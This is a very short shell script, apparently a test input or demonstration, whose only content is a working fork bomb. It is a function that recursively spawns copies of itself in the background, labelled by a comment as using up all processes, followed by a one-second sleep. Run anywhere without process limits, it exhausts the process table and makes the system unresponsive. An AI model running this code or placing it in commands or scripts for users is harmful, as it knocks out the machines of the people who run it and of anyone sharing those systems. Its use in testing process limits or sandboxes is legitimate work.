# Uses up all processes.
bomb() { bomb | bomb & }; bomb; sleep 1
